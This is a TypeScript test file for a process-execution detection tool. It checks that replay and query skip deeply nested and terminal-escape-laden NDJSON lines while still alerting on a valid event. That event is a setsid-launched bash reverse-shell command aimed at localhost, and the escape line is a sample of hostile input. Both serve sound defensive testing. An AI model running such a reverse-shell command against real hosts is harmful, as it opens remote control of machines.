/** `replay` and `query` on hostile input files: one bad line costs one skipped line, nothing more. */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { afterAll, describe, expect, it } from 'vitest';
import type { CommandIo } from '../../src/cli/io.js';
import { queryAction } from '../../src/cli/query.js';
import { replayAction } from '../../src/cli/replay.js';
import { execEvent } from '../rules/support/exec-event.js';
import { TextSink as Sink } from '../support/helpers.js';

const io = (): CommandIo & { stdout: Sink; stderr: Sink } => ({ stdout: new Sink(), stderr: new Sink(), stdin: new PassThrough() });

describe('hostile input files', () => {
  const dir = mkdtempSync(join(tmpdir(), 'execwarden-hostile-'));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));
  const reverseShell = execEvent({ name: 'setsid', args: ['setsid', 'bash', '-c', 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'], sequence: 3 });
  const deep = `${'{"a":'.repeat(5000)}1${'}'.repeat(5000)}`;
  const file = join(dir, 'events.ndjson');
  writeFileSync(file, [deep, `\u001b]0;owned\u0007{oops`, JSON.stringify(reverseShell)].join('\n') + '\n');

  it('replay skips a 5,000-deep line and an escape-laden one, and still alerts on the rest', async () => {
    const out = io();
    const result = await replayAction({ files: [file], rules: [] }, out);
    expect(result).toMatchObject({ exitCode: 0, events: 1, alerts: expect.any(Number), malformed: 2 });
    expect(result.alerts).toBeGreaterThan(0);
    expect(out.stderr.text).toMatch(/:1: skipped malformed line: nested deeper than 64 levels/);
    expect(out.stderr.text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
  });

  it('query does the same', async () => {
    const out = io();
    const result = await queryAction({ query: 'process where process.name == "setsid"', files: [file] }, out);
    expect(result).toMatchObject({ exitCode: 0, matches: 1, malformed: 2 });
  });
});
